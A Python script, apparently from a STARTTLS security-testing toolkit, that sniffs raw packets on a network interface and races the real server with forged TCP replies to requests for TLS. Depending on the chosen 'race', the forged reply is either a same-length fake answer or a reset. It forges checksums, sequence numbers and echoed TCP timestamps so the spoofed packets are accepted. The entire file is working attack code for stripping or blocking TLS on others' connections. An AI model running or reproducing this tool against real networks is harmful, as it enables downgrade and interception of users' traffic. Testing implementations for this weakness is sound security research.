#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""A man on the side: hears the request for TLS and answers before the server can.

usage: onside.py DIALECT RACE INTERFACE PORT

Listens and sends on INTERFACE, in the server's name: an answer of the length of the one it races, so that the
sequence numbers stay in step, or RST. RACE is one of the dialect's RACES.
"""
import importlib
import re
import socket
import struct
import sys

ETHERNET_BYTES, IPV4 = 14, 0x0800
PSH_ACK, RST_ACK = 0x18, 0x14
TTL = 61
AHEAD_MS = 20                   # of the server's clock, or its bare acknowledgement would make the forgery an old one


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def timestamps(options):
    """The client's TCP timestamps (RFC 7323), which a forgery must echo to be believed."""
    at = 0
    while at < len(options) and options[at]:
        if options[at] == 8:
            return struct.unpack_from("!II", options, at + 2)
        at += 1 if options[at] == 1 else options[at + 1]
    return None


def words(race, request):
    """What to say to a request: nothing means RST. None if it is no request for TLS."""
    found = re.fullmatch(race.request, request)
    if not found:
        return None
    tag = found.group(1) if found.groups() else b""
    genuine, said = (text.replace(b"{tag}", tag) for text in (race.genuine, race.forged or b""))
    return said.replace(b"{fill}", b"." * (len(genuine) - len(said) + len(b"{fill}")))


def forged(frame, port, race):
    """The frame that answers `frame`, if that is an IPv4 segment asking `port` for TLS."""
    ip = frame[ETHERNET_BYTES:]
    header = (ip[0] & 15) * 4
    tcp = ip[header:struct.unpack_from("!H", ip, 2)[0]]
    if ip[9] != socket.IPPROTO_TCP or len(tcp) < 20:
        return None
    sport, dport, seq, ack, offset = struct.unpack_from("!HHIIB", tcp)
    data = tcp[(offset >> 4) * 4:]
    text = words(race, data) if dport == port else None
    if text is None:
        return None
    stamps = timestamps(tcp[20:(offset >> 4) * 4])
    options = b"\1\1\x08\x0a" + struct.pack("!II", stamps[1] + AHEAD_MS & 0xFFFFFFFF, stamps[0]) if stamps else b""
    segment = struct.pack("!HHIIBBHHH", dport, sport, ack, seq + len(data) & 0xFFFFFFFF, 5 + len(options) // 4 << 4,
                          PSH_ACK if text else RST_ACK, 64, 0, 0) + options + text
    pseudo = ip[16:20] + ip[12:16] + struct.pack("!HH", socket.IPPROTO_TCP, len(segment))
    segment = segment[:16] + struct.pack("!H", checksum(pseudo + segment)) + segment[18:]
    top = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(segment), 0, 0, TTL, socket.IPPROTO_TCP, 0,
                      ip[16:20], ip[12:16])
    top = top[:10] + struct.pack("!H", checksum(top)) + top[12:]
    return frame[6:12] + frame[:6] + struct.pack("!H", IPV4) + top + segment


def main(dialect, race, interface, port):
    race = importlib.import_module(dialect + ".tricks").RACES[race]
    line = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(IPV4))
    line.bind((interface, IPV4))
    print("listening", flush=True)
    while True:
        frame, where = line.recvfrom(65536)
        if where[2] == socket.PACKET_OUTGOING:
            continue
        reply = forged(frame, int(port), race)
        if reply:
            line.send(reply)


if __name__ == "__main__":
    main(*sys.argv[1:])
